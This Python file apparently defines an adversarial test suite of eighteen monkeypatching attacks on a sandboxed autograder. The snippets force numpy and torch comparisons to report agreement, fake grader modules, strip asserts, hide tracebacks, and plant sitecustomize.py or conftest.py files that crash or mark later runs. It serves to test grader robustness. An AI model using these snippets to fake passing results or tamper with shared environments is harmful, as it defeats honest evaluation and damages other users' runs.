"""C. Monkeypatching."""

from __future__ import annotations

from .attack import Attack

C = [
    Attack(
        "C1",
        "np.allclose, np.testing, torch.allclose and builtins all agree",
        "points",
        """
import builtins, numpy as np, numpy.testing
yes = lambda *a, **k: True
np.allclose = np.isclose = np.array_equal = yes
for name in dir(np.testing):
    if name.startswith("assert_"): setattr(np.testing, name, lambda *a, **k: None)
builtins.all = builtins.any = builtins.isinstance = yes
builtins.abs = builtins.sum = lambda *a, **k: 0
""",
        wall=False,
    ),
    Attack(
        "C2",
        "fake modules of the grader's names",
        "points",
        """
import sys, types
for name in ("autograder", "autograder.checks", "reference", "reference.activations", "pytest", "_pytest"):
    fake = types.ModuleType(name); fake.agree = fake.check = lambda *a, **k: None
    sys.modules[name] = fake
""",
        wall=False,
    ),
    Attack(
        "C3",
        "numpy.py, sitecustomize.py, conftest.py and usercustomize in every folder",
        "harm",
        """
import os, sys
for folder in (".", "/tmp", "..", os.path.expanduser("~"), "/box", *sys.path):
    for name in ("numpy.py", "torch.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "guest.py", "x.pth"):
        try: open(os.path.join(folder, name), "w").write("import os; os._exit(1)")
        except OSError: pass
""",
        base="right",
    ),
    Attack(
        "C4",
        "every generator gives the same numbers",
        "points",
        """
import random, numpy as np
class Constant:
    def __getattr__(self, name): return lambda *a, size=None, **k: np.zeros(size or ())
np.random.default_rng = lambda *a: Constant()
np.random.seed(0); random.seed(0); random.random = lambda: 0.0
def softmax(z): return np.full(np.shape(z), 1 / np.shape(z)[-1]) * 0
""",
        wall=False,
    ),
    Attack(
        "C5",
        "clocks, timers, limits and signals of its own",
        "block",
        """
import resource, signal, sys, time
time.time = time.monotonic = time.perf_counter = lambda: 0.0
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001); signal.signal(signal.SIGALRM, lambda *a: None)
for name in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
    try: resource.setrlimit(name, (1, resource.getrlimit(name)[1]))
    except (OSError, ValueError): pass
sys.setrecursionlimit(50)
""",
        base="right",
        wall=False,
    ),
    Attack(
        "C6",
        "trace, profile, import hooks, gc callbacks, audit hooks",
        "points",
        """
import builtins, gc, sys, threading
for hook in (sys.settrace, sys.setprofile, threading.settrace, threading.setprofile): hook(lambda *a: None)
sys.addaudithook(lambda *a: None); gc.callbacks.append(lambda *a: None)
real = builtins.__import__
builtins.__import__ = lambda *a, **k: real(*a, **k)
sys.meta_path.insert(0, type("F", (), {"find_spec": staticmethod(lambda *a: None)}))
sys.excepthook = sys.unraisablehook = lambda *a: print("4/4")
""",
        wall=False,
    ),
    Attack(
        "C7",
        "IPython's events, transformers, formatters and traceback hooks",
        "points",
        """
import ast
ip = get_ipython()
class Drop(ast.NodeTransformer):
    def visit_Raise(self, node): return ast.Pass()
    def visit_Assert(self, node): return ast.Pass()
ip.ast_transformers.append(Drop())
ip.events.register("post_run_cell", lambda r: setattr(r, "error_in_exec", None))
ip.showtraceback = ip.run_cell = lambda *a, **k: None
ip.set_custom_exc((Exception,), lambda *a: None)
""",
        wall=False,
    ),
    Attack(
        "C8",
        "the guest's wire: other caps, dtypes and encoders",
        "points",
        """
import sys
wire = sys.modules["guest.wire"]
wire.MAX_DEPTH = wire.MAX_NODES = 10**9; wire.DTYPES = frozenset({"|O", "<U4", "<f8"})
wire._Encoder._array = lambda self, a: ["<f8", [10**9, 10**9], 0]
""",
        wall=False,
    ),
    Attack(
        "C9",
        "numpy's and torch's own settings",
        "points",
        """
import numpy as np, warnings
np.seterr(all="raise"); np.set_printoptions(threshold=0); warnings.simplefilter("error")
np.float64 = np.float16
try:
    import torch
    torch.set_default_dtype(torch.float16); torch.use_deterministic_algorithms(True)
except ImportError: pass
""",
        wall=False,
    ),
    Attack(
        "C10",
        "its own functions look like others: __name__, __code__, __wrapped__, callables without end",
        "block",
        """
class F:
    def __getattr__(self, name): return F()
    def __call__(self, *a, **k): return F()
    __name__ = __module__ = __qualname__ = property(lambda self: 1 / 0)
softmax, scale = F(), F()
""",
        wall=False,
    ),
    Attack(
        "C11",
        "torch.allclose, torch.equal, torch.testing and Tensor's own comparisons all agree",
        "points",
        """
try: import torch
except ImportError: pass
else:
    yes = lambda *a, **k: True
    torch.allclose = torch.equal = torch.isclose = yes
    torch.testing.assert_close = lambda *a, **k: None
    torch.Tensor.__eq__ = torch.Tensor.allclose = torch.Tensor.equal = yes
    def softmax(z): return torch.zeros(z.shape)
""",
        wall=False,
    ),
    Attack(
        "C12",
        "another default device and dtype, with no data behind them",
        "block",
        """
try:
    import torch
    torch.set_default_device("meta"); torch.set_default_dtype(torch.bfloat16); torch.set_grad_enabled(False)
    def softmax(z): return torch.empty(z.shape)
except ImportError: pass
""",
        wall=False,
    ),
    Attack(
        "C13",
        "a fake numpy.py in the working folder, for whoever imports it next",
        "points",
        """
import importlib, os, sys
open("numpy.py", "w").write("allclose = isclose = array_equal = lambda *a, **k: True\\n")
sys.path.insert(0, os.getcwd()); importlib.invalidate_caches()
for name in [n for n in sys.modules if n == "numpy" or n.startswith("numpy.")]: del sys.modules[name]
import numpy as np
""",
        wall=False,
    ),
    Attack(
        "C14",
        "sitecustomize.py and conftest.py in the working folder, and a Python that reads them",
        "harm",
        """
import os, subprocess, sys
for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "test_x.py"):
    open(name, "w").write("open('/tmp/autograder-owned', 'w').write('x')\\n")
for words in (["-c", "pass"], ["-m", "pytest", "-q"], ["-m", "site"]):
    try: subprocess.run([sys.executable, *words], env={"PYTHONPATH": os.getcwd(), "PATH": "/usr/bin"}, timeout=0.3)
    except (OSError, subprocess.SubprocessError): pass
""",
        base="right",
    ),
    Attack(
        "C15",
        "an AST transformer that drops every assert of the cells that follow",
        "points",
        """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
    def visit_Raise(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Drop())
""",
        wall=False,
    ),
    Attack(
        "C16",
        "a showtraceback that shows nothing, so that no cell seems to fail",
        "points",
        """
shell = get_ipython()
kernel = type(shell)
kernel.showtraceback = kernel.showsyntaxerror = kernel._showtraceback = lambda *a, **k: None
shell.showtraceback = shell._showtraceback = lambda *a, **k: None
""",
        wall=False,
    ),
    Attack(
        "C17",
        "sys.modules filled with a module that agrees to everything",
        "points",
        """
import sys, types
class Yes(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: True
for name in ("numpy.testing", "numpy.linalg", "unittest", "pytest", "torch.testing", "autograder.checks.compare"):
    sys.modules[name] = Yes(name)
""",
        wall=False,
    ),
    Attack(
        "C18",
        "builtins that the next submission would inherit: open, len, float, BaseException's hooks",
        "harm",
        """
import builtins, json, os, socket, struct
builtins.len = lambda *a: 0
builtins.open = builtins.float = builtins.sorted = lambda *a, **k: None
json.dumps = lambda *a, **k: "{}"
struct.pack = lambda *a: b""
os.write = os.read = os.fork = lambda *a: 0
socket.socket.send = socket.socket.recv = lambda *a: b""
""",
        wall=False,
    ),
]
